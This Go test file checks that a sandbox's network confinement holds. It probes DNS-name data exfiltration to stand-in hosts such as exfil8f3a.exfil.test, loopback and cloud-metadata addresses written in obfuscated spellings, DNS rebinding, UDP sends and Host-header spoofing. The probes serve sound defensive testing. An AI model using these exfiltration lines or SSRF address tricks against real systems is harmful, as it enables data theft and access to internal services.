package hostile

import (
	"fmt"
	"net/netip"
	"strings"
	"testing"

	"github.com/carboy/carboy"
	"github.com/carboy/carboy/internal/testenv"
)

// private lets a bottle reach names that lead to this machine's loopback, which
// is where the tests' upstream servers are.
func private(routes ...string) func(*carboy.RunOptions) {
	return func(o *carboy.RunOptions) { o.AllowPrivate = append(o.AllowPrivate, routes...) }
}

// TestW1NothingLeavesInQuestions: data in names, of any type, to any server,
// over any transport, never reaches the name server that this machine asks.
func TestW1NothingLeavesInQuestions(t *testing.T) {
	contained(t, "names")
	testenv.Need(t, "curl", "apt-get install curl")
	h := newHost(t)
	web := newWeb(t)
	upstreamDNS.set("questions.test", "127.0.0.1")
	before := len(upstreamDNS.asked(""))
	secret := "exfil8f3a"
	x := h.run(private("questions.test:"+web.port), "/bin/sh", "-c", "getent ahostsv4 questions.test; getent hosts "+secret+".exfil.test; getent hosts questions.test."+secret+".test; exit 0")
	x.exited(0)
	if got := upstreamDNS.asked(secret); len(got) > 0 {
		t.Errorf("the upstream name server was asked %q", got)
	}
	// Not even the allowed name is asked for before a connection needs it.
	if got := upstreamDNS.asked("questions.test"); len(got) > 0 {
		t.Errorf("the upstream name server was asked %q by a question alone", got)
	}
	if !x.refused(secret + ".exfil.test") {
		t.Errorf("the receipt does not name the refused question: %+v", x.rec.Network.Names)
	}
	x = h.sh(private("questions.test:"+web.port), "curl -fsS http://questions.test:"+web.port+"/ && getent ahostsv4 questions.test")
	if !strings.HasPrefix(x.out, "served\n198.18.") {
		t.Errorf("the allowed name: %q", x.out)
	}
	if len(upstreamDNS.asked("")) == before {
		t.Error("the fake name server was never asked: this test looks in the wrong place")
	}
}

// TestW1Literals: an address that no route names is refused in every spelling, even if an
// allowed name resolves to it.
func TestW1Literals(t *testing.T) { contained(t, "literals") }

// TestW1Spellings: libc's and Python's readings of an address (decimal, octal,
// hexadecimal, short) lead nowhere either.
func TestW1Spellings(t *testing.T) {
	testenv.Need(t, "python3", "apt-get install python3")
	h := newHost(t)
	web := newWeb(t)
	var hosts []string
	for _, a := range []string{"2130706433", "0x7f000001", "0x7f.1", "017700000001", "127.1", "127.0.1", "0177.0.0.1", "0", "0.0.0.0", "::ffff:7f00:1", "::1", "①②⑦.⓪.⓪.①", "127。0。0。1", "2852039166", "0xa9fea9fe", "0251.0376.0251.0376", "169.254.43518", "[::]"} {
		hosts = append(hosts, fmt.Sprintf("%q", a))
	}
	script := `import socket
for h in [` + strings.Join(hosts, ",") + `]:
    for f in (lambda: socket.create_connection((h, ` + web.port + `), 20), lambda: socket.create_connection((socket.gethostbyname(h), ` + web.port + `), 20)):
        try:
            f(); print("REACHED", h)
        except (OSError, UnicodeError) as e:
            assert "timed out" not in str(e), h
c = socket.create_connection(("host.carboy.internal", ` + web.port + `), 20)
c.sendall(b"GET / HTTP/1.0\r\nHost: host.carboy.internal:` + web.port + `\r\n\r\n")
print(c.recv(12).decode())
`
	x := h.run(private("host.carboy.internal:"+web.port), "/usr/bin/python3", "-c", script)
	if x.out != "HTTP/1.0 200\n" && x.out != "HTTP/1.1 200\n" {
		t.Errorf("output %q %q", x.out, x.msg)
	}
	if n := web.requests(); n != 1 {
		t.Errorf("the server saw %d requests, want 1", n)
	}
}

// TestW1PrivateBehindNames: where an allowed name leads is judged at every
// connect: private space needs leave, and metadata is refused even with it.
func TestW1PrivateBehindNames(t *testing.T) {
	contained(t, "private-names")
	testenv.Need(t, "curl", "apt-get install curl")
	h := newHost(t)
	web := newWeb(t)
	for i, a := range []string{"127.0.0.1", "10.0.0.1", "169.254.169.254", "100.64.1.1", "::1", "fd00::1", "fe80::1", "::ffff:127.0.0.1", "64:ff9b::7f00:1", "2002:7f00:1::", "0.0.0.0", "224.0.0.1"} {
		name := fmt.Sprintf("inner%d.test", i)
		upstreamDNS.set(name, a)
		x := h.run(func(o *carboy.RunOptions) { o.Allow = []string{name + ":" + web.port} }, guestPath, "reach", name+":"+web.port)
		if strings.Contains(x.out, "\tdone") && web.requests() > 0 {
			t.Errorf("a public route led to %s", a)
		}
		if i == 2 { // the others share the code; a bottle for each costs time
			break
		}
	}
	upstreamDNS.set("both.test", "10.255.255.1", "127.0.0.1")
	upstreamDNS.set("cloud.test", "169.254.169.254")
	upstreamDNS.rebind("rebind.test", "127.0.0.1", "169.254.169.254")
	args := []string{
		"tcp/both.test:" + web.port, "tcp/cloud.test:80", "tcp/rebind.test:" + web.port,
	}
	x := h.sh(func(o *carboy.RunOptions) {
		o.Allow = []string{"both.test:" + web.port}
		o.AllowPrivate = []string{"cloud.test:80", "rebind.test:" + web.port}
	}, `curl -sS -o /dev/null -w '%{http_code}\n' http://both.test:`+web.port+`/; curl -sS -o /dev/null -w '%{http_code}\n' http://cloud.test/
		curl -sS -o /dev/null -w '%{http_code}\n' http://rebind.test:`+web.port+`/; curl -sS -o /dev/null -w '%{http_code}\n' http://rebind.test:`+web.port+`/again`)
	if got := strings.Fields(x.out); len(got) != 4 || got[0] != "403" || got[1] != "403" || got[2] != "200" {
		t.Errorf("%v: %q", args, x.out)
	}
	for seen := range web.hosts() {
		if !strings.HasPrefix(seen, "rebind.test") {
			t.Errorf("the server saw %q", seen)
		}
	}
}

// TestW2OnlyTCPLeaves: datagrams, QUIC, ICMP and raw packets reach no host
// server, and their refusal is said at once.
func TestW2OnlyTCPLeaves(t *testing.T) {
	testenv.Need(t, "bash", "apt-get install bash")
	contained(t, "datagrams")
	h := newHost(t)
	x := h.run(nil, "/bin/bash", "-c", "echo x > /dev/udp/8.8.8.8/123; exit 0")
	x.exited(0)
	seen := false
	for _, c := range x.rec.Network.Connections {
		seen = seen || c.Proto == "udp" && c.Verdict == "refused"
	}
	if !seen {
		t.Errorf("the receipt does not name the refused datagram: %+v", x.rec.Network.Connections)
	}
}

// TestW2Fallback: a client that prefers QUIC falls back: it tries, is refused at
// once, and goes on over TCP.
func TestW2Fallback(t *testing.T) {
	testenv.Need(t, "python3", "apt-get install python3")
	testenv.Need(t, "curl", "apt-get install curl")
	h := newHost(t)
	web := newWeb(t)
	upstreamDNS.set("fallback.test", "127.0.0.1")
	x := h.sh(private("fallback.test:"+web.port), `
		python3 -c '
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(10)
s.connect((socket.gethostbyname("fallback.test"), `+web.port+`))
s.send(b"x")
try: print("answered", s.recv(1))
except TimeoutError: print("the client hangs")
except OSError: print("refused")
'
		curl -fsS --retry 0 http://fallback.test:`+web.port+`/
		curl -6 -fsS -m 20 http://fallback.test:`+web.port+`/ 2>/dev/null || echo no-ipv6`)
	if x.out != "refused\nserved\nno-ipv6\n" {
		t.Errorf("output %q", x.out)
	}
}

// TestW3PlainHTTP: the authority of each request is the name of the connection,
// or it is refused, and no bytes of it reach the server.
func TestW3PlainHTTP(t *testing.T) {
	testenv.Need(t, "curl", "apt-get install curl")
	contained(t, "http")
	h := newHost(t)
	web := newWeb(t)
	upstreamDNS.set("one.test", "127.0.0.1")
	x := h.sh(private("one.test:"+web.port), "curl -fsS http://one.test:"+web.port+"/; curl -sS -o /dev/null -w '%{http_code}' -H 'Host: evil.test' http://one.test:"+web.port+"/")
	if x.out != "served\n421" || web.requests() != 1 {
		t.Errorf("curl got %q, and the server saw %d requests", x.out, web.requests())
	}
}

// TestW3TLS: the server name is the name of the connection.
func TestW3TLS(t *testing.T) { contained(t, "tls") }

// TestW3RouteOfAnAddress: a route for an address is no route for names that
// lead there.
func TestW3RouteOfAnAddress(t *testing.T) {
	h := newHost(t)
	at := "127.0.0.1" // from inside only names lead there: it is the bottle's own
	for _, a := range hostAddresses(t) {
		if ip := netip.MustParseAddr(a); ip.Is4() && !ip.IsLoopback() {
			at = a
		}
	}
	web := newWebAt(t, at)
	upstreamDNS.set("byname.test", at)
	route, byName, other := at+":"+web.port, "byname.test:"+web.port, netip.MustParseAddr(at).Next().String()+":"+web.port
	x := h.run(private(route), guestPath, "reach", byName, at+":1", other)
	if strings.Count(x.out, "\n") != 3 || strings.Contains(x.out, "\tdone") || web.requests() != 0 {
		t.Errorf("a route for %s led elsewhere: %s", route, x.out)
	}
	// What a route does name is reached: by the address, where there is one, or
	// by the name.
	want := byName
	if at != "127.0.0.1" {
		want = route
	}
	if x = h.run(private(want), guestPath, "reach", want); x.out != want+"\tdone\n" || web.requests() != 1 {
		t.Errorf("with a route for %s: %q, %d requests", want, x.out, web.requests())
	}
}
